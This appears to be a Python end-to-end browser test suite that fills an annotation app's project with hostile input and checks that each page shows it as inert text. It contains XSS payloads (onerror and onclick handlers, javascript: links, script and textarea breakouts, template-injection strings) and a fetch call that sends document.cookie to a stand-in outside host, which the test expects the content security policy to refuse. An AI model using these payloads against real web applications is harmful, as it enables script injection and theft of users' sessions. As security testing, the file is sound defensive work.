"""Every page of the app in a real browser on a project in which all that people wrote is an attack on the page."""

import json
import re
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from at_work import WORD, rest, themed
from hostile import ELSEWHERE, SHORT, Watched, hostile, watch

from allabel.active.questions import Wanted
from allabel.config import FILE_NAME
from allabel.document import DocId, Document, Span
from allabel.finetuning import ask, finetune
from allabel.formats.base import Record
from allabel.people.accounts import Accounts
from allabel.people.desk import Answer, Desk
from allabel.people.roles import Role
from allabel.project import Project
from allabel.reply import Grounding, Proposal, Reply, Status, TaggedDocument
from allabel.schema import Label, LabelSchema
from app.cli import ENTRY
from app.pages import PAGES

pytestmark = [pytest.mark.e2e, pytest.mark.enable_socket]

LABELS = (f"{SHORT}R", f"<b class=evil onclick=evil(3)>S</b> ![]({ELSEWHERE}/l)")
ADA, BO = "<u class=evil>ada</u>", f'"><img class=evil src={ELSEWHERE}/p onerror=evil(4)> bo'
TEXTS = [
    f"NaCl was stirred in water . {hostile('text')}",
    f"KBr was stirred in water . \u202e{hostile('text')} \U000e0041\u200b",
    "LiF was stirred in water . </textarea></script>{{ 7*7 }} ${alert(1)} {% raw %}",
    f"CsI was stirred in water . {hostile('text')}",
    "RbCl was stirred in water . data:text/html,<script>evil(5)</script>",
    "NaF was stirred in water . <a href='javascript:evil(6)' class=evil autofocus onfocus=evil(7) tabindex=1>x</a>",
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A project whose folder, labels, people, texts, notes, questions, replies and runs are hostile."""
    folder = tmp_path / f"{SHORT} $x$ <script>evil(8)<!--"
    labels = tuple(
        Label(name=name, definition=hostile("definition"), examples=(hostile("example"),), not_examples=(SHORT,))
        for name in LABELS
    )
    documents = [Document(DocId(f"{SHORT}{n}"), text) for n, text in enumerate(TEXTS)]
    with Project.create(folder, LabelSchema(labels=labels, guidelines=hostile("guidelines"))) as project:
        for name, role in ((ADA, Role.ADMIN), (BO, Role.CURATOR)):
            Accounts(project.store).add(name, role, WORD)
        project.import_records([Record(n, one) for n, one in enumerate(documents, 1)], Path("x"), "texts")
    settings = 'duplicates = "keep"\nblind_share = 0.0\ndouble_share = 1.0\n[finetune]\ntagger = "crf"\n'
    (folder / FILE_NAME).write_text(settings, encoding="utf-8")
    with Project.open(folder) as project:
        _work(project, documents)
    _runs(folder / "runs")
    return folder


def _work(project: Project, documents: list[Document]) -> None:
    """Have two people answer differently, flag a text, be asked questions, and a model reply."""
    project.select("6texts", "uniform")
    people = {one.name: one for one in Accounts(project.store).people()}
    desks = [Desk(project.store, project.schema, people[name], project.settings) for name in (ADA, BO)]
    for n, one in enumerate(documents[:2]):
        for name, desk, label in zip((ADA, BO), desks, (LABELS[n], LABELS[1]), strict=True):
            at = one.text.index("water")
            spans = (Span(0, one.text.index(" "), label), Span(at, at + 5, LABELS[1]))
            version = desk.open(one.id).version
            desk.save(Answer(one.id, spans, version, f"{name}{n}", 5.0))
    desks[0].flag(documents[2].id, hostile("note"), "flag")
    mention = hostile("mention")
    said = (
        Proposal(LABELS[0], mention, None, Grounding.MISSING),
        Proposal(LABELS[0], "CsI", Span(0, 3, LABELS[0]), Grounding.EXACT, 0.5),
    )
    texts = {one.id: one for one in documents}
    replies = [
        Reply(Status.OK, said, raw=mention, n_prompt_tokens=3, n_output_tokens=3),
        Reply(Status.FAILED, error=hostile("error")),
    ]
    for one, reply in zip(documents[3:5], replies, strict=True):
        project.store.add_tagged([TaggedDocument(one.id, texts[one.id].text, reply, SHORT, SHORT)])
    finetune(project)
    ask(project, Wanted(4, "entity"))


def _runs(folder: Path) -> None:
    folder.mkdir()
    rows = [
        {"run": hostile("run"), "method": f"{SHORT}{m}", "data": SHORT, "n_texts": n, "n_tokens": None, "seed": seed}
        | {"metric": hostile("metric"), "value": 0.4 + m / 10 + seed / 100, "at": "2026-05-03T21:00:00+00:00"}
        for m in (0, 1)
        for n in (10, 20)
        for seed in (1, 2, 3)
    ]
    (folder / "a.jsonl").write_text("\n".join(map(json.dumps, rows)), encoding="utf-8")
    (folder / f"{SHORT}.jsonl").write_text("{", encoding="utf-8")


@pytest.fixture
def app(served: Callable[..., Any], folder: Path) -> Any:
    return served(ENTRY, env=themed(folder))


@pytest.fixture
def watched(app: Any, page: Any) -> Watched:
    """The page, watched from before its first script on."""
    return watch(page, app.url)


def sign_in(page: Any, name: str) -> None:
    page.get_by_role("textbox", name="Name", exact=True).fill(name)
    page.get_by_role("textbox", name="Password", exact=True).fill(WORD)
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.get_by_role("button", name="Sign out").wait_for()


def test_what_people_wrote_is_shown_as_text_on_every_page(
    app: Any, watched: Watched, tmp_path: Path, shots: Path
) -> None:
    page = watched.page
    page.goto(app.url)
    page.get_by_role("heading", name="Sign in").wait_for()
    watched.check("the sign-in")
    sign_in(page, ADA)
    for one in PAGES:
        page.get_by_role("link", name=one.title, exact=True).click()
        if one.module in TITLED:
            page.get_by_role("heading", name=one.title, level=1).wait_for()
        rest(page)
        assert not page.locator("[data-testid=stException]").count(), f"{one.title} failed"
        assert ADA in page.locator("[data-testid=stSidebar]").inner_text(), "a name is shown as it is"
        watched.check(one.title)
        page.screenshot(path=shots / f"hostile-{one.module}.png", full_page=True)
        for visit in EVERY_PART.get(one.module, ()):
            visit(page, tmp_path)
            rest(page)
            watched.check(f"{one.title}, {visit.__name__}")
            page.screenshot(path=shots / f"hostile-{one.module}-{visit.__name__}.png", full_page=True)


def a_text(page: Any, _: Path) -> None:
    page.wait_for_selector(".se[data-ready=true][data-locked=false]")
    shown = page.evaluate("() => document.querySelector('.se').textContent")
    assert "evil" in shown, "a text is shown as it is"


def guidelines(page: Any, _: Path) -> None:
    page.locator("[data-testid=stExpander] summary", has_text="Guidelines and labels").click()
    page.get_by_text("evil('guidelines')").first.wait_for()


def a_history(page: Any, _: Path) -> None:
    page.locator("[data-testid=stExpander] summary", has_text="Text and its history").click()
    page.get_by_text("Go to a text by its id").wait_for()


def a_question(page: Any, _: Path) -> None:
    page.wait_for_selector(".qu[data-ready=true]")


def _view(name: str) -> Callable[[Any, Path], None]:
    def visit(page: Any, _: Path) -> None:
        page.get_by_role("radio", name=name, exact=True).click()

    visit.__name__ = name
    return visit


def the_map(page: Any, _: Path) -> None:
    page.get_by_role("spinbutton", name="Budget").fill("40")
    page.get_by_role("spinbutton", name="Budget").press("Enter")
    page.get_by_role("tab", name="Strategies on the map").click()
    page.get_by_role("button", name="Draw the map").click()
    chart = page.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg").first
    chart.wait_for()
    chart.hover()


def a_tagged_text(page: Any, _: Path) -> None:
    page.get_by_role("textbox", name="Text", exact=True).fill(TEXTS[0])
    page.get_by_role("button", name="Tag the text").click()
    page.locator(".al-text").first.wait_for()
    assert "<script>evil" in page.locator(".al-text").first.inner_text()


def curves(page: Any, _: Path) -> None:
    chart = page.locator("[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg").first
    chart.wait_for()
    chart.hover()


def an_upload(page: Any, tmp_path: Path) -> None:
    bad = tmp_path / f"{SHORT}.jsonl"
    bad.write_text(json.dumps({"id": hostile("id"), "text": hostile("upload")}) + "\n{" + hostile("line"))
    page.locator("input[type=file]").first.set_input_files(bad)
    page.get_by_text(re.compile("problem")).first.wait_for()


TITLED = {one.module for one in PAGES} - {"annotate"}
EVERY_PART: dict[str, tuple[Callable[[Any, Path], None], ...]] = {
    "annotate": (a_text, guidelines, a_history),
    "questions": (a_question,),
    "review": tuple(map(_view, ("Model disagrees", "Flags", "Not in the text", "Agreement"))),
    "select": (the_map,),
    "tag": (a_tagged_text,),
    "compare": (curves,),
    "start": (an_upload,),
}


def test_a_script_that_got_into_a_page_all_the_same_does_not_run_and_reaches_nobody(app: Any, watched: Watched) -> None:
    page = watched.page
    page.goto(app.url)
    page.get_by_role("heading", name="Sign in").wait_for()
    page.evaluate(
        f"""() => {{
          const at = document.createElement('div');
          at.innerHTML = '<img src=x onerror="evil(1)"><a id=evil-link href="javascript:evil(2)">x</a>'
            + '<iframe srcdoc="<script>parent.evil(3)<\\/script>"></iframe><img src="{ELSEWHERE}/i.png">';
          document.body.append(at);
          const script = document.createElement('script');
          script.textContent = 'evil(4)';
          document.body.append(script);
          document.getElementById('evil-link').click();
        }}"""
    )
    sent = page.evaluate(f"() => fetch('{ELSEWHERE}/' + document.cookie).then(() => 'sent', () => 'refused')")
    page.wait_for_timeout(1000)
    assert sent == "refused"
    assert page.evaluate("() => window.evilHits") == []
    assert len(page.evaluate("() => window.policyHits")) >= 5


def test_no_page_of_another_site_can_show_the_app_in_a_frame(app: Any, page: Any, tmp_path: Path) -> None:
    around = tmp_path / "around.html"
    around.write_text(f"<iframe id=app src='{app.url}' width=900 height=600></iframe>")
    page.goto(around.as_uri())
    page.wait_for_timeout(3000)
    with urllib.request.urlopen(app.url, timeout=30) as answer:
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    frame = page.locator("#app").element_handle().content_frame()
    assert frame.url.startswith("chrome-error:"), "the browser shows nothing of it"
